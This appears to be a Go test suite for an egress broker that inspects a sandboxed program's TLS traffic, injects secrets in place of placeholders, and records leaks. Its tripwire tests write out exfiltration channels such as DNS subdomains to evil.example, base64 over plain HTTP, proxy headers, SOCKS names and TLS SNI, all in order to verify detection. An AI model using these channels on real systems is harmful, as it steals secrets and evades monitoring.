package egress

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	rule "palyra/call/egress"
	"palyra/internal/canon"
	"palyra/internal/fault"
	"palyra/isolate/egress/client"
	"palyra/isolate/egress/dns"
	"palyra/isolate/egress/sealed"
	"palyra/isolate/egress/wire"
	"palyra/isolate/evidence"
)

// web is a host of the world that speaks HTTPS, with a certificate of the world's root.
type web struct {
	roots *x509.CertPool
	cert  tls.Certificate

	mu  sync.Mutex
	got []*http.Request // without bodies
}

func newWeb(t testing.TB, handler http.HandlerFunc, addresses ...string) *web {
	t.Helper()
	w := &web{roots: x509.NewCertPool()}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "the world"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, DNSNames: []string{"a.example", "b.example", "x.cdn.example"}}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	w.roots.AddCert(cert)
	w.cert = tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key, Leaf: cert}
	for _, a := range addresses {
		l, err := net.Listen("tcp", a)
		if err != nil {
			t.Fatal(err)
		}
		s := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			w.mu.Lock()
			w.got = append(w.got, r)
			w.mu.Unlock()
			handler(rw, r)
		}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{w.cert}}, ErrorLog: nil}
		go s.ServeTLS(l, "", "")
		t.Cleanup(func() { s.Close() })
	}
	return w
}

func (w *web) requests() []*http.Request {
	w.mu.Lock()
	defer w.mu.Unlock()
	return slices.Clone(w.got)
}

const secretValue = "the-value-of-a-secret/0123"

// inspects opens a session for an order with inspection, gives it values, and hands sockets over.
func (b *broker) inspects(o *Order) (c *call, placeholder string) {
	b.t.Helper()
	slices.Sort(o.Rules)
	placeholder = rule.NewPlaceholder("")
	for i := range o.Uses {
		o.Uses[i].Placeholder = placeholder
	}
	o.Capsule = canon.Sum([]byte("a call"))
	s, err := b.client.Open(context.Background(), o)
	if err != nil {
		b.t.Fatal(err)
	}
	b.t.Cleanup(func() { s.Close() })
	if len(o.Uses) > 0 {
		var boxes [][]byte
		for _, u := range o.Uses {
			box, err := sealed.Seal(s.Key(), o.Capsule, u, []byte(secretValue))
			if err != nil {
				b.t.Fatal(err)
			}
			boxes = append(boxes, box)
		}
		if err := s.Give(b.t.Context(), boxes); err != nil {
			b.t.Fatal(err)
		}
	}
	c = &call{newCell(b.t), s}
	if err := handOver(s.Cell(), c.sockets(20)); err != nil {
		b.t.Fatal(err)
	}
	return c, placeholder
}

// https is a program in the cell.
func (c *call) https(authority string) *http.Client {
	c.t.Helper()
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM([]byte(authority)) {
		c.t.Fatalf("no authority: %q", authority)
	}
	t := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots}, ForceAttemptHTTP2: true, DisableCompression: true,
		DialContext: func(_ context.Context, _, address string) (net.Conn, error) {
			host, port, err := net.SplitHostPort(address)
			if err != nil {
				return nil, err
			}
			_, addrs := c.ask(host, dns.A)
			if len(addrs) == 0 {
				return nil, fmt.Errorf("%s has no address", host)
			}
			return c.dial(net.JoinHostPort(addrs[0].String(), port))
		}}
	c.t.Cleanup(t.CloseIdleConnections)
	return &http.Client{Transport: t, Timeout: 30 * time.Second}
}

func get(c *http.Client, url string, header http.Header) (*http.Response, string, error) {
	q, err := http.NewRequest("GET", url, nil)
	if err != nil {
		return nil, "", err
	}
	if header != nil {
		q.Header = header
	}
	res, err := c.Do(q)
	if err != nil {
		return nil, "", err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	return res, string(b), err
}

// TestInspected: a program with a placeholder reads a private page, and the evidence has what was
// asked, what was refused, and whose certificate it was.
func TestInspected(t *testing.T) {
	w := newWeb(t, func(rw http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(rw, "%s %s: %s", r.Host, r.URL.Path, r.Header.Get("Authorization"))
	}, "5.5.40.1:443", "5.5.40.1:8443")
	zone := map[string][]string{"a.example": {"5.5.40.1"}, "b.example": {"5.5.40.1"}, "x.cdn.example": {"5.5.40.1"}}
	b := newBroker(t, Config{Nameserver: newNameServer(t, zone).at, Roots: w.roots})
	c, p := b.inspects(&Order{Rules: []string{"a.example:443", "a.example:8443", "*.cdn.example:443", "b.example:443"},
		Inspect: []string{"*.cdn.example:443", "GET a.example:443/private"}, Uses: []wire.Use{{Use: "T=vault://global/t header:authorization a.example:443"}}})
	program := c.https(c.session.Authority())
	res, body, err := get(program, "https://a.example/private", http.Header{"Authorization": {"Bearer " + p}})
	if err != nil || res.StatusCode != 200 || body != "a.example /private: Bearer "+p {
		t.Fatalf("%v, %q, %v", res, body, err)
	}
	if got := w.requests(); len(got) != 1 || got[0].Header.Get("Authorization") != "Bearer "+secretValue || got[0].Proto != "HTTP/2.0" {
		t.Errorf("the host got %+v", got)
	}
	if res, body, err = get(program, "https://a.example/public", nil); err != nil || res.StatusCode != 403 || !strings.Contains(body, "no rule of the call") {
		t.Errorf("%v, %q, %v", res, body, err)
	}
	if res, body, err = get(program, "https://x.cdn.example/any", nil); err != nil || body != "x.cdn.example /any: " {
		t.Errorf("%v, %q, %v", res, body, err)
	}
	// Hosts and ports that aren't inspected show their own certificate, which the program doesn't know
	// and the authority can't make.
	for _, url := range []string{"https://b.example/", "https://a.example:8443/"} {
		var unknown x509.UnknownAuthorityError
		if _, _, err := get(program, url, nil); !errors.As(err, &unknown) {
			t.Errorf("%s: %v", url, err)
		}
	}
	program.CloseIdleConnections()
	e := c.end()
	if len(e.Leaks) > 0 || len(e.Requests) != 3 || fmt.Sprint(e.Requests[0].Uses) != "[T]" || e.Requests[0].Path != "/private" || e.Requests[0].Status != 200 || !e.Requests[1].Refused || e.Requests[2].Host != "x.cdn.example" {
		t.Errorf("%+v", e)
	}
	if !slices.Contains(e.Denied, evidence.Denial{Host: "a.example", Port: 443, Why: evidence.DenyRequest, Times: 1}) {
		t.Errorf("%+v", e.Denied)
	}
	key := canon.Sum(w.cert.Leaf.RawSubjectPublicKeyInfo)
	for _, conn := range e.Connections {
		inspected := conn.Port == 443 && conn.Host != "b.example"
		if conn.Address != "5.5.40.1" || conn.Outcome == "" || (conn.Key == key) != inspected || conn.TLS != "TLS 1.3" || conn.ServerName != conn.Host || conn.Sent == 0 || conn.Received == 0 {
			t.Errorf("%+v", conn)
		}
	}
	if len(e.Connections) != 4 || e.Sent == 0 || e.Received == 0 {
		t.Errorf("%+v", e)
	}
	if left := goroutines(); left != "" {
		t.Errorf("left: %s", left)
	}
}

// TestTripwires: wherever the placeholder is seen beside its place, the call ends at once.
func TestTripwires(t *testing.T) {
	for name, x := range map[string]struct {
		leak func(c *call, p string)
		want evidence.Leak
	}{
		"another inspected host": {func(c *call, p string) {
			get(c.https(c.session.Authority()), "https://b.example/", http.Header{"Authorization": {"Bearer " + p}})
		}, evidence.Leak{Host: "b.example", Port: 443, Where: evidence.LeakHeader}},
		"a body": {func(c *call, p string) {
			c.https(c.session.Authority()).Post("https://a.example/", "text/plain", strings.NewReader("it's "+p))
		}, evidence.Leak{Host: "a.example", Port: 443, Where: evidence.LeakBody}},
		"in the clear": {func(c *call, p string) {
			conn := c.mustDial(c.address("plain.example", dns.A) + ":80")
			io.WriteString(conn, "GET /?"+p[:20])
			io.WriteString(conn, p[20:]+" HTTP/1.1\r\n\r\n")
		}, evidence.Leak{Host: "plain.example", Port: 80, Where: evidence.LeakClear}},
		"in the clear, base64": {func(c *call, p string) {
			io.WriteString(c.mustDial(c.address("plain.example", dns.A)+":80"), base64.StdEncoding.EncodeToString([]byte("xy"+p)))
		}, evidence.Leak{Host: "plain.example", Port: 80, Where: evidence.LeakClear}},
		"in the clear, through a proxy": {func(c *call, p string) {
			io.WriteString(c.mustDial("198.18.0.2:3128"), "CONNECT plain.example:80 HTTP/1.1\r\n\r\n"+p)
		}, evidence.Leak{Where: evidence.LeakProxy}},
		"a proxy's head": {func(c *call, p string) {
			io.WriteString(c.mustDial("198.18.0.2:3128"), "CONNECT a.example:443 HTTP/1.1\r\nProxy-Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("u:"+p))+"\r\n\r\n")
		}, evidence.Leak{Where: evidence.LeakProxy}},
		"a name of SOCKS": {func(c *call, p string) {
			host := p[:20] + "." + p[20:] + ".example"
			conn := c.mustDial("198.18.0.2:1080")
			conn.Write([]byte{5, 1, 0})
			io.ReadFull(conn, make([]byte, 2))
			conn.Write(append(append([]byte{5, 1, 0, 3, byte(len(host))}, host...), 1, 187))
		}, evidence.Leak{Where: evidence.LeakProxy}},
		"a name":              {func(c *call, p string) { ask(c, p+".a.example") }, evidence.Leak{Where: evidence.LeakDNS}},
		"a name, cut":         {func(c *call, p string) { ask(c, p[:7]+"."+p[7:]+".evil.example") }, evidence.Leak{Where: evidence.LeakDNS}},
		"a name in capitals":  {func(c *call, p string) { ask(c, strings.ToUpper(p)+".evil.example") }, evidence.Leak{Where: evidence.LeakDNS}},
		"a name, hexadecimal": {func(c *call, p string) { ask(c, fmt.Sprintf("%x.%x.evil.example", p[:20], p[20:])) }, evidence.Leak{Where: evidence.LeakDNS}},
		"no query": {func(c *call, p string) {
			conn := c.mustDial("198.18.0.1:53")
			conn.Write(append([]byte{0, byte(12 + len(p))}, append(make([]byte, 12), p...)...))
		}, evidence.Leak{Where: evidence.LeakDNS}},
		"a greeting": {func(c *call, p string) {
			tls.Client(c.mustDial(c.address("a.example", dns.A)+":443"), &tls.Config{InsecureSkipVerify: true, ServerName: p + ".example"}).Handshake()
		}, evidence.Leak{Host: "a.example", Port: 443, Where: evidence.LeakTLS}},
	} {
		t.Run(name, func(t *testing.T) {
			var mu sync.Mutex
			var plain bytes.Buffer
			w := newWeb(t, func(rw http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }, "5.5.41.1:443")
			serveTCP(t, "5.5.41.1:80", func(c *net.TCPConn) {
				b, _ := io.ReadAll(c)
				mu.Lock()
				defer mu.Unlock()
				plain.Write(b)
			})
			zone := map[string][]string{"a.example": {"5.5.41.1"}, "b.example": {"5.5.41.1"}, "plain.example": {"5.5.41.1"}}
			b := newBroker(t, Config{Nameserver: newNameServer(t, zone).at, Roots: w.roots})
			c, p := b.inspects(&Order{Rules: []string{"a.example:443", "b.example:443", "plain.example:80", "*.a.example:443"},
				Inspect: []string{"b.example:443"}, Uses: []wire.Use{{Use: "T=vault://global/t header:authorization a.example:443"}}})
			x.leak(c, p)
			<-c.session.Done() // before Close: palyra learns of it
			e := c.end()
			x.want.Name = "T"
			if len(e.Leaks) == 0 {
				t.Fatalf("no leak: %+v", e)
			}
			got := e.Leaks[0]
			if x.want.Host == "" {
				got.Host = ""
			}
			if got != x.want {
				t.Errorf("%+v, want %+v", e.Leaks, x.want)
			}
			mu.Lock()
			defer mu.Unlock()
			if strings.Contains(plain.String(), p) {
				t.Errorf("the host got %q", plain.String())
			}
			for _, r := range w.requests() {
				if strings.Contains(fmt.Sprint(r.Header, r.URL), p) {
					t.Errorf("the host got %v", r)
				}
			}
		})
	}
}

// ask asks for a name and waits for no answer.
func ask(c *call, name string) {
	c.in(func() {
		if conn, err := net.Dial("udp", netip.AddrPortFrom(netip.MustParseAddr("198.18.0.1"), 53).String()); err == nil {
			conn.Write(query(name, dns.A))
			conn.Close()
		}
	})
}

// TestInspectedLimits: an inspected connection is bounded as others are.
func TestInspectedLimits(t *testing.T) {
	silent := make(chan struct{}, 4)
	w := newWeb(t, func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/silent" {
			silent <- struct{}{}
			<-r.Context().Done()
			return
		}
		io.Copy(rw, io.LimitReader(zeros{}, 4<<20))
	}, "5.5.42.1:443")
	zone := map[string][]string{"a.example": {"5.5.42.1"}, "gone.example": {"5.5.42.2"}}
	b := newBroker(t, Config{Nameserver: newNameServer(t, zone).at, Roots: w.roots})
	order := func(l wire.Limits) *Order {
		return &Order{Rules: []string{"a.example:443", "gone.example:443"}, Inspect: []string{"a.example:443", "gone.example:443"}, Limits: l}
	}
	for name, x := range map[string]struct {
		limits  wire.Limits
		path    string
		body    io.Reader
		outcome string
	}{
		"received": {wire.Limits{Received: 1 << 20}, "/", nil, evidence.ConnLimit},
		"sent":     {wire.Limits{Sent: 1 << 20}, "/", io.LimitReader(zeros{}, 4<<20), evidence.ConnLimit},
		"idle":     {wire.Limits{Idle: 300 * time.Millisecond}, "/silent", nil, evidence.ConnIdle},
	} {
		t.Run(name, func(t *testing.T) {
			b.t = t
			c, _ := b.inspects(order(x.limits))
			program := c.https(c.session.Authority())
			q, _ := http.NewRequest("POST", "https://a.example"+x.path, x.body)
			res, err := program.Do(q)
			if err == nil {
				_, err = io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
			if err == nil {
				t.Error("it came to its end")
			}
			if name == "idle" {
				<-silent
			}
			program.CloseIdleConnections()
			e := c.end()
			if len(e.Connections) == 0 || e.Connections[0].Outcome != x.outcome || e.Sent > 1<<20+1<<16 && name == "sent" || e.Received > 1<<20 && name == "received" {
				t.Errorf("%+v", e)
			}
		})
	}
	t.Run("refused", func(t *testing.T) {
		b.t = t
		c, _ := b.inspects(order(wire.Limits{}))
		res, body, err := get(c.https(c.session.Authority()), "https://gone.example/", nil)
		if err != nil || res.StatusCode != 502 || !strings.Contains(body, "refuses the connection") {
			t.Errorf("%v, %q, %v", res, body, err)
		}
		if e := c.end(); len(e.Connections) != 1 || e.Connections[0].Outcome != evidence.ConnRefused || e.Connections[0].Address != "" || !e.Requests[0].Refused {
			t.Errorf("%+v", e)
		}
	})
	t.Run("memory", func(t *testing.T) {
		s, err := newServer(Config{})
		if err != nil {
			t.Fatal(err)
		}
		if l := s.inspected.Limits(); l.Total > 128<<20 || l.Each > l.Total/2 {
			t.Errorf("%+v", l)
		}
	})
	t.Run("ended", func(t *testing.T) {
		b.t = t
		c, _ := b.inspects(order(wire.Limits{}))
		program := c.https(c.session.Authority())
		ended := make(chan error)
		go func() {
			_, _, err := get(program, "https://a.example/silent", nil)
			ended <- err
		}()
		<-silent
		e := c.end()
		if err := <-ended; err == nil {
			t.Error("answered")
		}
		if len(e.Connections) != 1 || e.Connections[0].Outcome != evidence.ConnEnded || len(e.Requests) != 1 || e.Requests[0].Status != 0 {
			t.Errorf("%+v", e)
		}
		if left := goroutines(); left != "" {
			t.Errorf("left: %s", left)
		}
	})
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// TestInspectionRefused: an order that contradicts itself, and values that aren't those of its uses,
// open no session.
func TestInspectionRefused(t *testing.T) {
	b := newBroker(t, Config{})
	use, p := "T=vault://global/t header:authorization a.example:443", rule.NewPlaceholder("")
	capsule := canon.Sum(nil)
	for name, o := range map[string]*Order{
		"no rule for it":     {Inspect: []string{"a.example:443"}},
		"another spelling":   {Rules: []string{"a.example:443"}, Inspect: []string{"A.example:443"}},
		"a name in a suffix": {Rules: []string{"*.example.org:443"}, Inspect: []string{"a.example.org:443"}},
		"no capsule":         {Rules: []string{"a.example:443"}, Uses: []wire.Use{{Use: use, Placeholder: p}}},
		"no placeholder":     {Rules: []string{"a.example:443"}, Uses: []wire.Use{{Use: use, Placeholder: "x"}}, Capsule: capsule},
		"too many":           {Rules: []string{"a.example:443"}, Uses: slices.Repeat([]wire.Use{{Use: use, Placeholder: p}}, 17), Capsule: capsule},
	} {
		if s, err := b.client.Open(context.Background(), o); fault.KindOf(err) != fault.Usage {
			t.Errorf("%s: %v", name, err)
			if err == nil {
				s.Close()
			}
		}
	}
	o := &Order{Rules: []string{"a.example:443"}, Uses: []wire.Use{{Use: use, Placeholder: p}}, Capsule: capsule}
	for name, box := range map[string]func(s *client.Session) ([]byte, error){
		"another call": func(s *client.Session) ([]byte, error) {
			return sealed.Seal(s.Key(), canon.Sum([]byte("x")), o.Uses[0], []byte(secretValue))
		},
		"another placeholder": func(s *client.Session) ([]byte, error) {
			return sealed.Seal(s.Key(), capsule, wire.Use{Use: use}, []byte(secretValue))
		},
		"no box":        func(s *client.Session) ([]byte, error) { return []byte(secretValue), nil },
		"a short value": func(s *client.Session) ([]byte, error) { return sealed.Seal(s.Key(), capsule, o.Uses[0], []byte("x")) },
	} {
		s, err := b.client.Open(context.Background(), o)
		if err != nil {
			t.Fatal(err)
		}
		v, err := box(s)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Give(t.Context(), [][]byte{v}); fault.ReasonOf(err) != "invalid_input" || strings.Contains(fmt.Sprint(err), secretValue) {
			t.Errorf("%s: %v", name, err)
		}
		if _, err := s.Close(); err == nil {
			t.Errorf("%s: there is a session", name)
		}
	}
	// A palyra that goes away instead of giving values leaves nothing.
	s, err := b.client.Open(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Close(); !errors.Is(err, client.ErrLost) {
		t.Errorf("%v", err)
	}
}

// TestInspectedProxy: the proxies lead to inspected hosts as names do.
func TestInspectedProxy(t *testing.T) {
	w := newWeb(t, func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "hello") }, "5.5.43.1:443")
	b := newBroker(t, Config{Nameserver: newNameServer(t, map[string][]string{"a.example": {"5.5.43.1"}}).at, Roots: w.roots})
	c, _ := b.inspects(&Order{Rules: []string{"a.example:443"}, Inspect: []string{"GET a.example:443"}})
	conn := c.mustDial("198.18.0.2:3128")
	io.WriteString(conn, "CONNECT a.example:443 HTTP/1.1\r\n\r\n")
	r := bufio.NewReader(conn)
	if line, err := r.ReadString('\n'); err != nil || !strings.Contains(line, " 200 ") {
		t.Fatalf("%q, %v", line, err)
	}
	if _, err := r.ReadString('\n'); err != nil || r.Buffered() > 0 {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM([]byte(c.session.Authority()))
	inner := tls.Client(conn, &tls.Config{RootCAs: roots, ServerName: "a.example"})
	io.WriteString(inner, "GET / HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n")
	if got, err := io.ReadAll(inner); err != nil || !strings.HasSuffix(string(got), "hello") {
		t.Errorf("%q, %v", got, err)
	}
	// The end of the call may come before that of the connection.
	ended := []string{evidence.ConnClosed, evidence.ConnEnded}
	if e := c.end(); len(e.Requests) != 1 || !slices.Contains(ended, e.Connections[0].Outcome) || e.Connections[0].Address != "5.5.43.1" {
		t.Errorf("%+v", e)
	}
}

// TestRoom: what an inspected connection takes beside its first request is its owner's, of the memory
// for all inspected connections.
func TestRoom(t *testing.T) {
	srv, err := newServer(Config{Descriptors: 64})
	if err != nil {
		t.Fatal(err)
	}
	s := newSession(srv, &Order{Owner: "uid:1"}, rule.Rules{})
	release, err := s.room(t.Context(), inspectedMemory/2)
	if err != nil || srv.inspected.Held() != inspectedMemory/2 {
		t.Fatalf("%v, %d", err, srv.inspected.Held())
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := s.room(ctx, 1); err == nil {
		t.Error("one owner has more than half")
	}
	other, err := newSession(srv, &Order{Owner: "uid:2"}, rule.Rules{}).room(t.Context(), 1)
	if err != nil {
		t.Fatal(err)
	}
	release()
	other()
	if srv.inspected.Held() != 0 {
		t.Errorf("%d bytes are held", srv.inspected.Held())
	}
}
